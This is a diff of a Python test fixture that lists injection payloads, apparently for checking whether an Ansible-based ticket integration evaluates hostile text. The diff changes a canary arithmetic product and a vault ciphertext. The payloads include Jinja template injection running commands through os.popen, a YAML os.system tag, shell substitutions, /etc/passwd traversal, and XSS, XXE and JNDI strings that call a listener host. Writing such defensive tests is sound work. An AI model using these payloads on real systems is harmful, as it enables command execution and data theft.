@@ -13,17 +13,17 @@ import json
 from collections.abc import Sequence
 from dataclasses import dataclass
 
-#: Whoever evaluates C({{ 191*193 }}) gets this.
-PRODUCT = "36863"
+#: Whoever evaluates C({{ 7919*7907 }}) gets this.
+PRODUCT = "62615533"
 
 #: A real ciphertext of ansible-vault: PRODUCT, with the password VAULT_PASSWORD.
 VAULT_PASSWORD = "attack"
 VAULT = """$ANSIBLE_VAULT;1.1;AES256
-64363435613634356530386432346137316462363138393563343736653862353436393138333734
-6431373462646530626163303666306439663934376139330a316662373130646466643239653434
-65666565383835653466383036623432613834623535353236316331363533343632633732373439
-6664393936616438650a336439613836613137616433666537366235303431333635393165336536
-3261"""
+38316561656532326338633265356232613265353831646536313263386264363366616666316363
+6231303035333566383338363162636263633163623433360a653966623933656635343964646465
+34353034616238303464343135626233393131386163333834333263663935623266336561343630
+6561653735653834310a353038323131363233323738646639306663376534396334333362636535
+3964"""
 
 
 @dataclass(frozen=True)
@@ -44,33 +44,33 @@ def attacks(canary: str, listener: str) -> Sequence[Attack]:
     blocks = [{"type": "section", "text": {"type": "mrkdwn", "text": "<!channel>"}}]
     texts = {
         # Jinja, in all its delimiters and by all its doors
-        "a product": "{{ 191*193 }}",
+        "a product": "{{ 7919*7907 }}",
         "a lookup that runs a command": "{{ " + pipe + " }}",
         "query instead of lookup": "{{ query('ansible.builtin.pipe', '" + touch + "') | first }}",
         "a lookup that calls a URL": "{{ lookup('ansible.builtin.url', '" + listener + "/lookup') }}",
         "a statement": "{% set x = " + pipe + " %}{{ x }}",
-        "a loop that trims": "{%- for i in [1] -%}{{ 191*193 }}{%- endfor -%}",
+        "a loop that trims": "{%- for i in [1] -%}{{ 7919*7907 }}{%- endfor -%}",
         "a comment of Jinja": "before {# hidden #} after",
-        "raw that ends": "{% raw %}{{ 191*193 }}{% endraw %}{{ 191*193 }}",
+        "raw that ends": "{% raw %}{{ 7919*7907 }}{% endraw %}{{ 7919*7907 }}",
         "other delimiters by a header": "#jinja2: variable_start_string:'<<', variable_end_string:'>>'\n<< "
         + pipe
         + " >>",
-        "a header that trims": "#jinja2:trim_blocks:False, lstrip_blocks: True\n{{ 191*193 }}",
-        "line statements": "# for i in [1]\n{{ 191*193 }}\n# endfor",
+        "a header that trims": "#jinja2:trim_blocks:False, lstrip_blocks: True\n{{ 7919*7907 }}",
+        "line statements": "# for i in [1]\n{{ 7919*7907 }}\n# endfor",
         "the class of everything": "{{ ''.__class__.__mro__[1].__subclasses__() }}{{ cycler.__init__.__globals__.os"
         f".popen('{touch}').read() }}}}",
         "a name of a variable": "{{ jira_token }}{{ slack_token }}{{ hostvars }}{{ vars }}",
-        "braces that do not close": "{{ 191*193",
+        "braces that do not close": "{{ 7919*7907",
         "a statement that does not close": "{% if",
         "braces of an honest title": "{{{ x }}} in {service} 100% {#1} {%",
-        "braces within braces": "{{ '{{ 191*193 }}' }}",
-        "a filter that evaluates": "{{ '191*193' | extract | from_json }}${191*193}#{191*193}<%= 191*193 %>@(191*193)",
+        "braces within braces": "{{ '{{ 7919*7907 }}' }}",
+        "a filter that evaluates": "{{ '1' | extract | from_json }}${7919*7907}#{7919*7907}<%= 7919*7907 %>",
         # YAML and JSON
-        "unsafe in a text": "!unsafe '{{ 191*193 }}'",
+        "unsafe in a text": "!unsafe '{{ 7919*7907 }}'",
         "a tag of YAML": f"!!python/object/apply:os.system ['{touch}']",
         "a whole document": f"---\n- hosts: all\n  tasks:\n    - shell: {touch}\n...",
         "an anchor and a merge": "&a [*a, *a]\n<<: *a",
-        "a list that looks native": "['191', 193]",
+        "a list that looks native": "['7919', 7907]",
         "a number that looks native": "1e5",
         "nothing": "null",
         "quotes that end": '\'" }, "hosts": "all", "x": "',
@@ -81,7 +81,7 @@ def attacks(canary: str, listener: str) -> Sequence[Attack]:
         # shell
         "a substitution of the shell": f"$({touch}) `{touch}` ; {touch} | {touch} && {touch} & > {canary}",
         "an option": f'--extra-vars={{"x": "{touch}"}} -i /dev/null',
-        "a dollar and a brace": "${IFS}${HOME}$((191*193))%s%n%x",
+        "a dollar and a brace": "${IFS}${HOME}$((7919*7907))%s%n%x",
         # terminals and lines
         "colours of a terminal": "\x1b[2J\x1b[31mred\x1b[0m\x1b]0;title\x07\x9b2K",
         "bells and backspaces": "safe\b\b\b\b\x07\x00evil\x7f",
@@ -96,7 +96,7 @@ def attacks(canary: str, listener: str) -> Sequence[Attack]:
         # paths and addresses
         "a path": "../../../../etc/passwd\x00.png",
         "a path of Windows": "..\\..\\windows\\system32 C:\\con file:///etc/passwd",
-        "an address": f"{listener}/?q={{{{ 191*193 }}}} javascript:alert(1) data:text/html,<script>",
+        "an address": f"{listener}/?q={{{{ 7919*7907 }}}} javascript:alert(1) data:text/html,<script>",
         "mark-up of a page": "<script>fetch('" + listener + "')</script><img src=x onerror=alert(1)>&amp;&#60;",
         "an entity of XML": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{listener}/xxe">]><x>&e;</x>',
         "a lookup of Java": "${jndi:ldap://" + listener.removeprefix("http://") + "/a}",
@@ -116,7 +116,7 @@ def attacks(canary: str, listener: str) -> Sequence[Attack]:
         "a mention of Teams": "<at>Ana Berg</at> <at>everyone</at>",
         "our own mark": "self-healing:i7k3v5q2x4dmz [i7k3v5q2x4dmz-3] (self-healing)",
         # lengths and numbers
-        "very long": "A {{ 191*193 }} " * 2000,
+        "very long": "A {{ 7919*7907 }} " * 2000,
         "one long word": "W" * 30_000,
         "deep brackets": "[" * 3000 + "{{" * 500,
         "numbers as text": "NaN Infinity -0 9223372036854775808 1e400 0x7f 08",
@@ -139,8 +139,8 @@ BODIES: dict[str, bytes] = {
     "a float without end": b'{"State": "OPEN", "PID": "1", "x": 1e999}',
     "the same name twice": b'{"State": "OPEN", "State": "RESOLVED", "PID": "1"}',
     "a list": b'[{"State": "OPEN", "PID": "1"}]',
-    "a text": b'"{{ 191*193 }}"',
-    "a template": b"{{ 191*193 }}",
+    "a text": b'"{{ 7919*7907 }}"',
+    "a template": b"{{ 7919*7907 }}",
     "nothing": b"",
     "zeroes": b"\x00" * 1000,
     "two documents": b'{"State": "OPEN", "PID": "1"}{"State": "OPEN"}',
@@ -157,11 +157,11 @@ ODD_VALUES: dict[str, object] = {
     "a small float": 1e-300,
     "true": True,
     "null": None,
-    "a list": ["{{ 191*193 }}"],
-    "an object": {"{{ 191*193 }}": "{{ 191*193 }}", "__ansible_unsafe": "{{ 191*193 }}", "__ansible_vault": "x"},
+    "a list": ["{{ 7919*7907 }}"],
+    "an object": {"{{ 7919*7907 }}": "{{ 7919*7907 }}", "__ansible_unsafe": "{{ 7919*7907 }}", "__ansible_vault": "x"},
     "a tagged object": {
         "__ansible_type": "_AnsibleTaggedStr",
-        "value": "{{ 191*193 }}",
+        "value": "{{ 7919*7907 }}",
         "tags": [{"__ansible_type": "TrustedAsTemplate"}],
     },
     "deep": json.loads('{"a":' * 200 + "1" + "}" * 200),
